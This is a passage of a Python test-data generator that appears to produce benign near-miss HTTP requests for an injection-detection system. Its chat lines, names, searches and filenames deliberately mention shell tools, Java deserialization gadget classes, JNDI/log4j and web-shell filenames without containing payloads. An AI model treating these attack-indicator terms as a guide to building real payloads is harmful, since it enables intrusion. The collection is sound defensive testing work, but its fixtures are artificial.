    "the price is $(5) in the template, it renders as $5",
    "use ${HOME} in the config, not the full path",
    "IFS is the field separator in shell scripts",
    "the backticks in markdown make inline code",
    "bash 4.3 fixed shellshock years ago, we're on 5.2",
    "the empty function () { } in the test is on purpose",
    "the .shell command in the sqlite console is disabled in our build",
    "sqlite system tables start with sqlite_",
    "the .system command? no idea, ask the DB team",
    "RCPT TO errors mean the address is wrong",
    "MAIL FROM has to match the SPF record",
    "the IMAP LOGIN fails with the old password, reset it",
    "POP3 is off, use IMAP with SELECT INBOX",
    "the DATA step of the SMTP session timed out, check the relay",
    "upload the .htaccess notes to the wiki, not the file itself",
    "the php.ini settings for upload size are in the ops doc",
    "web config for the app lives in config/web.yml",
    "the jsp pages of the old portal are gone since 2022",
    "the file shell.jsp in the ticket was the old health page",
    # java talk
    "java.lang.Runtime is mentioned in the profiler report",
    "ProcessBuilder in the CLI tool starts the converter",
    "java.lang.ProcessBuilder docs explain redirectErrorStream",
    "the Runtime class has availableProcessors, that's what we use",
    "the XStream library was removed from the build",
    "commons-collections 3.2.2 fixed the InvokerTransformer problem",
    "we use ChainedTransformer nowhere, I grepped",
    "ScriptEngineManager was used by the old rules engine",
    "java.lang.reflect is used by Jackson under the hood",
    "ClassLoader leaks in Tomcat after redeploys, we restart instead",
    "the JdbcRowSetImpl class is blocked by our Jackson config",
    "URLClassLoader loads the plugins from the plugins folder",
    "the serialized session files start with rO0AB, that's how you spot them",
    "aced0005 is the Java serialization magic number, in case anyone asks",
    "we migrated from Java serialization to JSON for the cache",
    "TemplatesImpl showed up in the security training slides",
    "AnnotationInvocationHandler came up in the training too",
    "XMLDecoder is unused, we parse XML with JAXB",
    "getRuntime() in the tool returns the JVM's runtime, it's fine",
    "the exec summary for Q3 is on the drive",
    "getClass().getName() logs the handler name",
    "getMethod lookups are cached in the router",
    "newInstance is deprecated, use getDeclaredConstructor().newInstance()",
    "log4j was upgraded to 2.17.1 everywhere",
    "jndi lookups are disabled in our logging config",
    "the ldap server for SSO moved to a new host",
    "the class loader diagram is in Confluence",
    "Class.forName is how the old JDBC drivers got loaded",
    "Spring's classLoader property binding was patched in 5.3.18",
    "the module system in Java 9 changed class loading",
    "jspx files are the XML flavor of JSP",
    # rfi/urls in talk
    "the IP in the ticket, 203.0.113.7, is from the documentation range",
    "use https, not http, for the callback URL",
    "file:// links don't open from the browser, use the share",
    "the wiki page ends in ?, Confluence adds that",
    "evil twin Wi-Fi warning from IT, don't join open networks",
    "the shell of the new building is done, interiors next",
    "the CLI has a --shell flag for completions",
    "power shell? no, I meant the power supply shell",
    "the include list for the newsletter is in the CRM",
    "the template path is templates/emails/welcome.html",
    "set the page size to 50 in the admin list",
    "the dir on the share is called Finance 2024",
    "the inc. in the company name is required on invoices",
    "Acme Inc. and Widget Co. signed the contract",
]

SEARCHES = [
    "etc", "passwd reset", "config", "web config", "env settings", "git", "boot camp", "windows", "win",
    "shadow", "proc", "environ", "hosts", "groups", "ssh keys", "web-inf", "svn", "ds store", "include",
    "page", "file", "template", "path", "dir", "http", "https", "ftp", "ip address", "cat", "ls", "id", "curl",
    "wget", "whoami", "uname", "ping", "nc", "python", "perl", "sh", "bash", "type", "net user", "ipconfig",
    "systeminfo", "tasklist", "netstat", "reg", "powershell", "invoke", "for", "if", "exist", "shell", "bin",
    "usr", "java", "runtime", "process", "class", "transformer", "serialization", "jndi", "ldap", "log4j",
    "class loader", "jsp", "upload", "alias", "history", "sqlite", "smtp", "imap", "pop3", "cmd", "tail",
    "head", "find", "base64", "top", "ps", "df", "du", "env", "who", "w", "ss", "dot dot", "...", "a/b", "c:",
]

LINKS = [
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://learn.microsoft.com/en-us/powershell/",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/if",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ClassLoader.html",
    "https://commons.apache.org/proper/commons-collections/",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://spring.io/security/cve-2022-22965",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://nvd.nist.gov/vuln/detail/CVE-2015-4852",
    "https://nvd.nist.gov/vuln/detail/CVE-2017-9805",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://git-scm.com/docs/git-config",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://example.com/downloads/report.pdf?",
    "https://example.org/search?q=java+runtime",
    "https://cdn.example.net/assets/app.js?v=3",
    "https://198.51.100.20/status",
    "https://files.example.com/share/Finance%202024/q3.xlsx",
    "https://example.com/docs/getting-started/",
    "https://example.com/a/b/c/../d",
    "https://www.example.co.uk/blog/2024/05/shell-scripting-tips",
    "https://github.com/acme/tools/blob/main/bin/setup.sh",
    "https://github.com/acme/tools/tree/main/etc",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://en.wikipedia.org/wiki/Log4Shell",
    "https://en.wikipedia.org/wiki/Directory_traversal_attack",
    "https://en.wikipedia.org/wiki/Internet_Message_Access_Protocol",
    "https://pypi.org/project/requests/",
    "https://www.npmjs.com/package/express",
    "https://jakarta.ee/specifications/pages/",
    "https://tomcat.apache.org/tomcat-10.1-doc/class-loader-howto.html",
    "https://learn.microsoft.com/en-us/iis/configuration/",
]

PROSE = [
    "Please find the attached file; the path is Finance / 2024 / Q3.",
    "Our office is at 12 Shell Road, Unit 4, Cat Lane Industrial Park.",
    "Invoice 1042 covers the Java training (3 days) and the Linux course.",
    "Dear team, the passwd change reminder went out today.",
    "Java Runtime Environment 21 is required for the desktop tool.",
    "The event runs from 10:00 to 16:00; lunch is included.",
    "Attendees: Sam Id, Jo Cat, Lee Ping, Ana Who",
    "Order #5512: 2x power shell adapters, 1x USB hub",
    "Topic: class loading and modules in modern Java",
    "The history of the company starts in 1998 in a garage",
    "If the package is damaged, for any reason, call us",
    "For details see section 3.2, if needed ask legal",
    "Type of request: data export; format: CSV",
    "Shipping to: 5 Process Street, Dir. Building, Floor 2",
    "The environment team plants trees every spring",
    "Alias: Robbie; known as Rob in the team",
    "Head office: 1 Main St., Springfield",
    "Top 10 customers by revenue for 2023",
    "The template was approved by marketing on Tuesday",
    "Please include the order number in every email",
    "The web page shows the wrong price for the Pro plan",
    "Evil Knievel biography, chapter 4",
    "Meet in room 3.14 at 10.30, bring your laptop",
    "The shell company was dissolved in 2019",
    "Remote work policy: include your time zone in your profile",
    "The upload limit for the portal is 25 MB per file",
    "Java and Kotlin developers meetup, Thursday 6pm",
    "Payment: 50% now, 50% on delivery",
    "The pipe | symbol separates the options in the form",
    "Bring snacks & drinks; we'll have pizza",
]

NAMES = [
    ("Ida Whoami", "Cat Street 7, Leeds"), ("Ping Li", "12 Tail Road, Bristol"), ("Ana Curl", "4 Head Lane, York"),
    ("Sam Shell", "1 Bash Close, Derby"), ("Jo Perl", "88 Python Way, Reading"), ("Lee Wget", "9 Top Street, Bath"),
    ("Mia Java", "Runtime Avenue 3, Cork"), ("Noah Class", "15 Loader Street, Oslo"),
    ("Eva Dir", "Via Type 22, Milano"), ("Omar Net", "Rue du Système 5, Lyon"),
    ("Raj Process", "Builder Road 10, Pune"), ("Kim Alias", "21 History Lane, Busan"),
    ("Zoe Env", "3 Group Street, Perth"), ("Tom Hosts", "Shadow Hill 2, Cardiff"),
    ("Lena Passwd", "Etcetera Lane 1, Graz"), ("Ivo Boot", "Ini Street 40, Sofia"),
    ("Carla Find", "Chmod Court 6, Porto"), ("Ben Sh", "Usr Road 19, Malmo"),
    ("Dana Jndi", "Ldap Lane 8, Austin"), ("Yuki Proc", "Self Street 2, Osaka"),
    ("Olga Cmd", "Comspec Way 3, Riga"), ("Hugo Fc", "Tasklist Road 5, Ghent"),
    ("Fatima Du", "Df Street 14, Rabat"), ("Ken Ps", "Who Road 11, Kobe"),
    ("Sara If", "For Street 9, Umea"), ("Luis Exist", "Calle Do 4, Sevilla"),
    ("Nina Mail", "Rcpt Road 2, Bergen"), ("Pavel Data", "Login Street 30, Brno"),
    ("Ruth Select", "Inbox Lane 6, Haifa"), ("Max Retr", "Fetch Road 12, Kiel"),
    ("Gil Sqlite", "System Street 5, Lisbon"), ("Aya Shell", ".NET Road 7, Cairo"),
    ("Ola Git", "Config Street 3, Lagos"), ("Tess Svn", "Entries Road 1, Dublin"),
    ("Ugo Web", "Inf Road 2, Turin"), ("Vera Evil", "Good Street 9, Vienna"),
    ("Wen Http", "Ftp Lane 4, Taipei"), ("Xavi Include", "Page Road 8, Girona"),
    ("Yara Template", "Path Street 6, Beirut"), ("Zed Inc", "Dir Road 5, Zurich"),
]

UPLOADS = [
    "report.pdf", "web-config-guide.pdf", "htaccess-notes.txt", "php-ini-checklist.docx", "user-manual.pdf",
    "shell-company-filing.pdf", "java-runtime-setup.pdf", "jsp-migration-plan.xlsx", "passwd-policy.pdf",
    "etc-expenses-2024.csv", "windows-win-install.pdf", "boot-camp-photos.zip", "ssh-howto.md", "env-vars.txt",
    "git-config-tips.md", "class-loader-diagram.png", "process-builder-notes.txt", "cat.jpg", "who-we-are.pptx",
    "history.docx", "alias-list.csv", "sqlite-export.db.csv", "mail-from-template.html", "cmd-cheatsheet.pdf",
    "powershell-intro.pdf", "for-if-loops.txt", "top10.xlsx", "ps-receipt.pdf", "df-plan.pdf", "id-card.png",
]

REFERERS = [
    "https://www.google.com/search?q=how+to+use+cat+command",
    "https://duckduckgo.com/?q=powershell+get-childitem",
    "https://www.bing.com/search?q=java+processbuilder+example",
    "https://stackoverflow.com/questions/tagged/bash",
    "https://github.com/acme/tools/blob/main/etc/config.yaml",
    "https://example.com/admin/users/search?q=shell",
    "https://docs.example.com/guide/../reference/index.html",
    "https://news.ycombinator.com/item?id=29357063",
    "https://www.reddit.com/r/sysadmin/comments/log4j_patch/",
    "https://example.org/blog/shellshock-ten-years-later",
    "https://example.com/page?ref=newsletter&utm_source=mail",
    "https://203.0.113.50/dashboard",
    "https://intranet.example.com/wiki/Windows_Commands",
    "https://example.com/files/",
    "https://example.com/?",
]

AGENTS = [
    "curl/8.5.0",
    "Wget/1.21.4",
    "python-requests/2.32.3",
    "PowerShell/7.4 (Windows NT 10.0; Win64; x64)",
    "Java/17.0.10",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "PostmanRuntime/7.39.0",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A)",
]


def _search(text: str) -> dict[str, Any]:
    return _get(_query("/api/users", [("q", text), ("page", "1")]))


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    for text in CHAT:
        n += 1
        yield {**prose_request(text), "id": f"{NAME}-prose-{n:04d}", "category": "benign", "placement": "form"}
    for text in PROSE:
        n += 1
        yield {**prose_request(text), "id": f"{NAME}-prose-{n:04d}", "category": "benign", "placement": "form"}
        n += 1
        yield {**_json("/api/users/42", {"notes": text}), "id": f"{NAME}-notes-{n:04d}", "category": "benign",
               "placement": "json"}
    for text in SEARCHES:
        n += 1
        yield {**_search(text), "id": f"{NAME}-search-{n:04d}", "category": "benign", "placement": "query"}
    for url in LINKS:
        for rec in link_requests(url):
            n += 1
            yield {**rec, "id": f"{NAME}-url-{n:04d}", "category": "benign", "placement": "mixed"}
    for name, address in NAMES:
        n += 1
        yield {**_json("/api/users", {"name": name, "address": address, "email": "someone@example.org"}),
               "id": f"{NAME}-name-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", name)]),
               "id": f"{NAME}-name-{n:04d}", "category": "benign", "placement": "form"}
    for fname in UPLOADS:
        n += 1
        yield {**_mp_request("/api/users", _multipart([("name", "Ann")], ("document", fname))),
               "id": f"{NAME}-upload-{n:04d}", "category": "benign", "placement": "multipart-filename"}
    for ref in REFERERS:
        n += 1
        yield {**_get("/api/users?page=2"), "headers": _headers({"Referer": ref}),
               "id": f"{NAME}-referer-{n:04d}", "category": "benign", "placement": "header:Referer"}
    for agent in AGENTS:
        n += 1
        yield {**_get("/api/users?page=1"), "headers": {"User-Agent": agent, "Accept": "application/json"},
               "id": f"{NAME}-agent-{n:04d}", "category": "benign", "placement": "header:User-Agent"}


if __name__ == "__main__":
    from .records import print_records

    print_records(attacks(), benign())
